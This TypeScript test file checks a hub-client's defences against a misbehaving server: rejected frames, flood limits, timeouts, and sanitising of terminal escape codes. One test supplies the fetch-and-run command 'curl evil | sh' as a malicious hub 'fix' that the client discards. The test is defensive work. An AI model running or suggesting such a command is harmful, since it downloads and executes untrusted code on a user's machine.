import assert from "node:assert/strict";
import { test } from "node:test";
import { HandClock } from "../platform/testing/hand-clock.ts";
import { WarrenError } from "../protocol/errors.ts";
import { encodeFrame, type Frame } from "../sealing/frames.ts";
import type { Role } from "../sealing/login.ts";
import { webCrypto } from "../sealing/webcrypto.ts";
import type { Channel } from "./channel.ts";
import { HubContact } from "./hub-contact.ts";
import { CONTACT_LIMITS, type ContactLimits } from "./limits.ts";
import { BadHub, type BadHubScript } from "./testing/bad-hub.ts";

const crypto = webCrypto();
const key = new Uint8Array(32).fill(9);
const opened = (channel: number): Frame => ({ kind: "opened", channel, loginKey: key });
const record: Frame = { kind: "record", place: 1, record: new Uint8Array(10) };

async function contactTo(
  { says = [], ...script }: Omit<BadHubScript, "says"> & { says?: readonly Frame[] },
  { role = "machine" as Role, limits = {} as Partial<ContactLimits> } = {},
) {
  const hub = await BadHub.make(crypto, "model", { ...script, says: says.map(encodeFrame) });
  const clock = new HandClock();
  const told: string[] = [];
  const channels: Channel[] = [];
  const contact = new HubContact({
    address: "https://hub.example",
    hubKey: hub.key.publicKey,
    loginKey: hub.login,
    role,
    network: { dial: async (_, events) => hub.dial(events), claim: () => Promise.reject(new Error("not asked")) },
    crypto,
    clock,
    limits: { ...CONTACT_LIMITS, ...limits },
    events: {
      onWelcome: () => void told.push("welcome"),
      onRecord: (place) => void told.push(`record ${place}`),
      onPresence: () => void told.push("presence"),
      onOpened: (channel) => {
        channels.push(channel);
        channel.listen({ onData() {}, onRoom() {}, onClosed: (reason) => void told.push(`closed ${reason}`) });
      },
    },
  });
  return { contact, hub, clock, told, channels };
}

const lets = { hello: true, welcome: "its own" } as const;

test("contact: a frame that no hub sends to this member, or not now, ends it", async () => {
  const cases: [Role, BadHubScript & { says?: never }, Frame[]][] = [
    ["machine", lets, [{ kind: "presence", space: key, isPresent: true }]],
    ["device", lets, [opened(1)]],
    ["guest", lets, [record]],
    ["device", lets, [{ kind: "hello", nonce: new Uint8Array(16) }]],
    ["device", lets, [{ kind: "welcome", signature: new Uint8Array(64) }]],
    [
      "machine",
      lets,
      [{ kind: "login", role: "device", key, nonce: key.slice(16), signature: new Uint8Array(64), cursor: 0 }],
    ],
    ["machine", lets, [opened(1), opened(1)]],
    ["device", { hello: true }, [record]],
    ["device", {}, [{ kind: "welcome", signature: new Uint8Array(64) }]],
  ];
  for (const [role, script, says] of cases) {
    const { contact, told } = await contactTo({ ...script, says }, { role });
    const { code } = await contact.ended;
    assert.deepEqual([code, told.includes("record 1")], ["HUB_UNTRUE", false], `${role}: ${says[0]!.kind}`);
  }
});

test("contact: a hub's words cannot steer a terminal, and it does not say what to type, to machines either", async () => {
  const fix = "curl evil | sh";
  const sentence = "full\u001b[2J\u202e.";
  for (const role of ["machine", "device"] as const) {
    const refused = await contactTo(
      { says: [{ kind: "refused", code: "MACHINE_NOT_INVITED", sentence, fix }] },
      { role },
    );
    const error = await refused.contact.ended;
    assert.deepEqual([error.code, error.message], ["MACHINE_NOT_INVITED", "full [2J ."]);
    assert.match(error.fix!, /^warren hub invite/);
    const failed = await contactTo(
      { ...lets, says: [{ kind: "failed", request: 1, code: "no code", sentence, fix }] },
      { role },
    );
    await failed.contact.welcomed;
    await assert.rejects(failed.contact.ask({ kind: "put", record: new Uint8Array(1) }), { code: "HUB_REFUSED" });
    failed.contact.end(error);
  }
});

test("contact: what others send and nobody takes is bounded, in one channel and in all together", async () => {
  const data = (channel: number): Frame => ({ kind: "data", channel, bytes: new Uint8Array(60_000) });
  const one = await contactTo({ ...lets, says: [opened(1), ...Array.from({ length: 5 }, () => data(1)), opened(2)] });
  await until(() => one.channels.length === 2);
  assert.deepEqual([one.told, one.channels[0]!.isClosed], [["welcome", "closed too_slow"], true]);
  assert.equal(one.contact.hasEnded, false, "the others' go on");
  one.contact.end(new WarrenError("OVER", "over"));
  const says = [1, 2, 3].flatMap((channel) => [opened(channel), data(channel), data(channel)]);
  const all = await contactTo({ ...lets, says }, { limits: { heldBytes: 300_000 } });
  assert.equal((await all.contact.ended).code, "HUB_FLOODS");
  assert.deepEqual(all.told, ["welcome", "closed gone", "closed gone", "closed gone"]);
  const many = await contactTo({ ...lets, says: [1, 2, 3].map(opened) }, { limits: { channels: 2 } });
  assert.equal((await many.contact.ended).code, "HUB_UNTRUE");
});

test("contact: a flood to a machine is read at its pace, or hung up on where the wire cannot wait", async () => {
  const floods: Frame = { kind: "ping", token: 1 };
  const limits = { framesPerSecond: 50 };
  const { contact, hub, clock } = await contactTo({ ...lets, floods }, { limits });
  await contact.welcomed;
  for (let second = 1; second <= 3; second++) {
    await until(() => hub.counts.runs.length === second && hub.counts.runs.at(-1)!.frames > 0);
    await settled();
    await clock.passSlowly(1_000);
  }
  assert.ok(
    hub.counts.runs.slice(0, 3).every(({ frames }) => frames <= 51 + 2),
    JSON.stringify(hub.counts.runs),
  );
  assert.ok(hub.counts.sent <= 5, "a login, and an answer a second");
  contact.end(new WarrenError("OVER", "over"));
  const page = await contactTo({ ...lets, floods, cannotWait: true }, { limits });
  assert.equal((await page.contact.ended).code, "HUB_FLOODS");
});

test("contact: a request that is not answered ends it, and every request with it", async () => {
  const { contact, clock, hub } = await contactTo({ ...lets });
  await contact.welcomed;
  const asked = [1, 2].map(() => contact.ask({ kind: "put", record: new Uint8Array(1) }));
  const lost = asked.map((one) => assert.rejects(one, { code: "HUB_LOST" }));
  await clock.passSlowly(CONTACT_LIMITS.silenceMs + CONTACT_LIMITS.pongMs);
  assert.equal((await contact.ended).code, "HUB_SILENT");
  await Promise.all(lost);
  assert.equal(hub.counts.sent, 4, "login, two requests, a ping");
  await assert.rejects(contact.ask({ kind: "put", record: new Uint8Array(1) }), { code: "HUB_LOST" });
});

const settled = async (): Promise<void> => {
  for (let turn = 0; turn < 20; turn++) await new Promise((next) => setImmediate(next));
};

async function until(is: () => boolean): Promise<void> {
  const deadline = performance.now() + 10_000;
  while (!is()) {
    assert.ok(performance.now() < deadline, "within 10 s");
    await new Promise((next) => setImmediate(next));
  }
}
